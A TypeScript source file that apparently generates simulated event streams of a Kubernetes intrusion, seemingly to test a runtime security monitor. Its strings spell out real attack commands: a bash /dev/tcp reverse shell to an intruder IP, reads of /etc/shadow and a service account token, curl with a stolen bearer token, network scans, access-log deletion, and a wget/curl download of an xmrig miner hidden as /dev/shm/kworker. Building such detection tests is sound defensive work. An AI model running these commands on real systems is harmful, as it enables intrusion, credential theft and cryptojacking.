import { acceptAct, connectAct, dnsAct, openAct, unlinkActs } from '../acts.js';
import type { Place, Process } from '../world.js';
import type { Part } from './strand.js';
import { Hand, MINUTE } from './strand.js';
import type { Random } from '../random.js';

/** The intruder's own machine: sends the tools, and takes the reverse shell. */
const INTRUDER = { ip: '185.220.101.47', domain: 'cdn-update.example.org', shellPort: 4444 };
/** The pool takes miners at a port that a policy refuses, and at one that none knows. */
const POOL = { ip: '51.15.58.224', domain: 'pool.minexmr.example.com', refusedPort: 3333, port: 14_444 };
/** The API server of the other cluster, as it is seen from this one. */
const OTHER_CLUSTER = { domain: 'api.east.example.net', ip: '203.0.113.60', port: 6443 };
const TOKEN = '/run/secrets/kubernetes.io/serviceaccount/token';
const BEARER = 'Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6IngifQ.c2ltdWxhdGVk.c2ln';
const WEB_SHELL = '/var/www/html/wp-content/uploads/2026/07/.thumb.php';
export const HIDDEN_MINER = '/dev/shm/kworker';
export const OPEN_MINER = '/tmp/.x/xmrig';
const WALLET = '47c2e5f01d8b9a34bf6e';

const AT_ONCE = 0.05;
const TYPED = 7;

function* opens(hand: Hand, afterSec: number, process: Process, file: string, write = false): Part {
  yield hand.does(afterSec, openAct(hand.place, process, file, write));
}

function* connects(hand: Hand, afterSec: number, process: Process, ip: string, port: number): Part {
  yield hand.does(afterSec, connectAct(hand.place, process, ip, port));
}

function* cat(hand: Hand, afterSec: number, shell: Process, file: string): Part {
  const process = yield* hand.starts(afterSec, shell, '/bin/cat', file);
  yield* opens(hand, AT_ONCE, process, file);
}

/** West: web shell → shell → discovery → token → other pods, first refused, then not → the way to the east. */
export function* webShell(place: Place, random: Random): Part {
  const hand = new Hand(place, random);
  const apache = place.main;
  yield hand.does(0, acceptAct(place, apache, INTRUDER.ip, 8080));
  yield* opens(hand, AT_ONCE, apache, WEB_SHELL, true);
  yield* opens(hand, 25, apache, WEB_SHELL);
  const shell = yield* hand.starts(AT_ONCE, apache, '/bin/sh', '-c "id; uname -a; cat /proc/1/cgroup"', {
    cwd: '/var/www/html',
  });
  yield* hand.starts(AT_ONCE, shell, '/usr/bin/id', '');
  yield* hand.starts(AT_ONCE, shell, '/bin/uname', '-a');
  yield* cat(hand, AT_ONCE, shell, '/proc/1/cgroup');
  yield* discover(hand, shell);
  const bash = yield* reverseShell(hand);
  yield* stealToken(hand, bash);
  yield* spread(hand, bash);
  const rm = yield* hand.starts(40, bash, '/bin/rm', '-f /var/log/apache2/access.log');
  for (const act of unlinkActs(place, rm, '/var/log/apache2/access.log')) yield hand.does(AT_ONCE, act);
  yield* comeBack(hand, bash);
}

function* discover(hand: Hand, shell: Process): Part {
  yield* hand.starts(40, shell, '/usr/bin/env', '');
  yield* hand.starts(TYPED, shell, '/bin/ps', 'aux');
  yield* cat(hand, TYPED, shell, '/etc/passwd');
  // Refused.
  yield* cat(hand, TYPED, shell, '/etc/shadow');
  yield* cat(hand, TYPED, shell, '/var/www/html/wp-config.php');
}

/** A shell that calls home; a terminal is made for it. @returns the shell on the terminal */
function* reverseShell(hand: Hand): Part<Process> {
  const { place } = hand;
  const home = `-i >& /dev/tcp/${INTRUDER.ip}/${INTRUDER.shellPort} 0>&1`;
  const bash = yield* hand.starts(60, place.main, '/bin/bash', home, { cwd: '/tmp' });
  yield* connects(hand, AT_ONCE, bash, INTRUDER.ip, INTRUDER.shellPort);
  const python = yield* hand.starts(TYPED, bash, '/usr/bin/python3.12', '-c "import pty; pty.spawn(\'/bin/bash\')"');
  return yield* hand.starts(AT_ONCE, python, '/bin/bash', '', { tty: 'pts0' });
}

function* stealToken(hand: Hand, shell: Process): Part {
  const read = `-c "print(open('${TOKEN}').read())"`;
  const python = yield* hand.starts(45, shell, '/usr/bin/python3.12', read);
  // Refused to an interpreter, and not to cat.
  yield* opens(hand, AT_ONCE, python, TOKEN);
  yield* cat(hand, 15, shell, TOKEN);
  const options = `-sk -H "Authorization: ${BEARER}" https://10.96.0.1/api/v1/secrets`;
  const curl = yield* hand.starts(20, shell, '/usr/bin/curl', options);
  yield* connects(hand, AT_ONCE, curl, '10.96.0.1', 443);
}

/** To other pods: each port of the first scan is refused, the second is so fast that KubeArmor goes silent, then PHP. */
function* spread(hand: Hand, shell: Process): Part {
  const slow = yield* hand.starts(60, shell, '/usr/bin/ncat', '-zv -w1 10.244.2.0/24 22,80,443,8080,9090');
  for (const last of [17, 18, 31]) {
    for (const port of [22, 80, 443, 8080, 9090]) yield* connects(hand, 0.6, slow, `10.244.2.${last}`, port);
  }
  const fast = yield* hand.starts(50, shell, '/usr/bin/ncat', '-zv -w1 10.244.3.0/24 8080');
  for (let last = 2; last < 30; last += 1) yield* connects(hand, 0.03, fast, `10.244.3.${last}`, 8080);
  const script = '-r "$s=fsockopen($argv[1],$argv[2]);fwrite($s,$argv[3]);"';
  for (const [ip, port] of [
    ['10.96.14.20', 3306],
    ['10.96.14.31', 6379],
    ['10.96.22.8', 8443],
  ] as const) {
    const php = yield* hand.starts(45, shell, '/usr/local/bin/php', `${script} ${ip} ${port}`);
    yield* connects(hand, AT_ONCE, php, ip, port);
  }
  yield* cat(hand, 30, shell, '/var/www/.kube/config');
  const options = `-sk -H "Authorization: ${BEARER}" https://${OTHER_CLUSTER.domain}:${OTHER_CLUSTER.port}/api`;
  const curl = yield* hand.starts(30, shell, '/usr/bin/curl', options);
  yield hand.does(AT_ONCE, dnsAct(hand.place, curl, OTHER_CLUSTER.domain, hand.random));
  yield* connects(hand, AT_ONCE, curl, OTHER_CLUSTER.ip, OTHER_CLUSTER.port);
}

/** Without end: the shell calls home, and now and then the password file is tried, and refused. */
function* comeBack(hand: Hand, shell: Process): Part {
  for (let turn = 1; ; turn += 1) {
    const home = `-c "bash -i >& /dev/tcp/${INTRUDER.ip}/${INTRUDER.shellPort} 0>&1"`;
    const bash = yield* hand.starts(2 * MINUTE, shell, '/bin/bash', home);
    yield* connects(hand, AT_ONCE, bash, INTRUDER.ip, INTRUDER.shellPort);
    if (turn % 2 === 0) yield* cat(hand, 20, bash, '/etc/shadow');
  }
}

/** East: with what was found in the west into the build runner, by a terminal, and from there to the payments. */
export function* stolenSession(place: Place, random: Random): Part {
  const hand = new Hand(place, random);
  const bash = yield* hand.enters(0, '/bin/bash');
  yield* hand.starts(TYPED, bash, '/usr/bin/id', '');
  yield* hand.starts(TYPED, bash, '/usr/bin/env', '');
  // Refused.
  yield* hand.starts(15, bash, '/usr/bin/apt', 'install -y ncat');
  yield* cat(hand, 20, bash, '/home/runner/.kube/config');
  for (const [wait, args] of [
    [MINUTE, 'get pods -A'],
    [3 * MINUTE, 'exec -itn payments payments-api -- sh'],
  ] as const) {
    const kubectl = yield* hand.starts(wait, bash, '/usr/local/bin/kubectl', args);
    yield* connects(hand, AT_ONCE, kubectl, '10.96.0.1', 443);
  }
}

/** East, then: in the payments, the miner is refused under its own name and comes again under another. */
export function* miner(place: Place, random: Random): Part {
  const hand = new Hand(place, random);
  const shell = yield* hand.enters(0, '/bin/sh');
  yield* hand.starts(TYPED, shell, '/usr/bin/id', '');
  yield* cat(hand, TYPED, shell, '/etc/payments/settings.yaml');
  yield* cat(hand, TYPED, shell, TOKEN);
  const tee = yield* hand.starts(60, shell, '/usr/bin/tee', '/etc/cron.d/refresh');
  yield* opens(hand, AT_ONCE, tee, '/etc/cron.d/refresh', true);
  const here = { cwd: '/tmp/.x' };
  const curl = yield* hand.starts(60, shell, '/usr/bin/curl', `-so x64.tgz http://${INTRUDER.domain}/x64.tgz`, here);
  yield hand.does(AT_ONCE, dnsAct(place, curl, INTRUDER.domain, random));
  yield* connects(hand, AT_ONCE, curl, INTRUDER.ip, 80);
  yield* opens(hand, AT_ONCE, curl, '/tmp/.x/x64.tgz', true);
  const tar = yield* hand.starts(TYPED, shell, '/usr/bin/tar', '-xzf x64.tgz', here);
  yield* opens(hand, AT_ONCE, tar, OPEN_MINER, true);
  const options = (port: number): string => `-o ${POOL.domain}:${port} -u ${WALLET}`;
  // Refused, and once more.
  yield* hand.starts(TYPED, shell, OPEN_MINER, options(POOL.refusedPort), here);
  yield* hand.starts(15, shell, OPEN_MINER, options(POOL.refusedPort), here);
  const cp = yield* hand.starts(2 * MINUTE, shell, '/bin/cp', `xmrig ${HIDDEN_MINER}`, here);
  yield* opens(hand, AT_ONCE, cp, HIDDEN_MINER, true);
  const hidden = yield* hand.starts(20, shell, HIDDEN_MINER, options(POOL.port), { tty: '' });
  yield* mines(hand, hidden);
}

/** Without end: work is fetched from the pool; now and then its usual port is tried, and refused. */
function* mines(hand: Hand, process: Process): Part {
  yield hand.does(1, dnsAct(hand.place, process, POOL.domain, hand.random));
  for (let turn = 0; ; turn += 1) {
    if (turn % 3 === 0) {
      for (let times = 0; times < 4; times += 1) yield* connects(hand, 1.5, process, POOL.ip, POOL.refusedPort);
    }
    if (turn % 10 === 9) yield hand.does(1, dnsAct(hand.place, process, POOL.domain, hand.random));
    yield* connects(hand, 22, process, POOL.ip, POOL.port);
  }
}

/** Plant: how the miner is brought is done while nobody listens; what is seen are its connections afterwards. */
export function* carriedOn(place: Place, random: Random): Part {
  const hand = new Hand(place, random);
  const shell = yield* hand.enters(0, '/bin/busybox');
  const wget = yield* hand.starts(5, shell, '/usr/bin/wget', `-qO ${HIDDEN_MINER} http://${INTRUDER.domain}/x64`);
  yield* connects(hand, AT_ONCE, wget, INTRUDER.ip, 80);
  yield* opens(hand, AT_ONCE, wget, HIDDEN_MINER, true);
  yield* hand.starts(3, shell, '/bin/chmod', `+x ${HIDDEN_MINER}`);
  const options = `-o ${POOL.domain}:${POOL.port} -u ${WALLET}`;
  const hidden = yield* hand.starts(3, shell, HIDDEN_MINER, options, { tty: '' });
  yield* mines(hand, hidden);
}
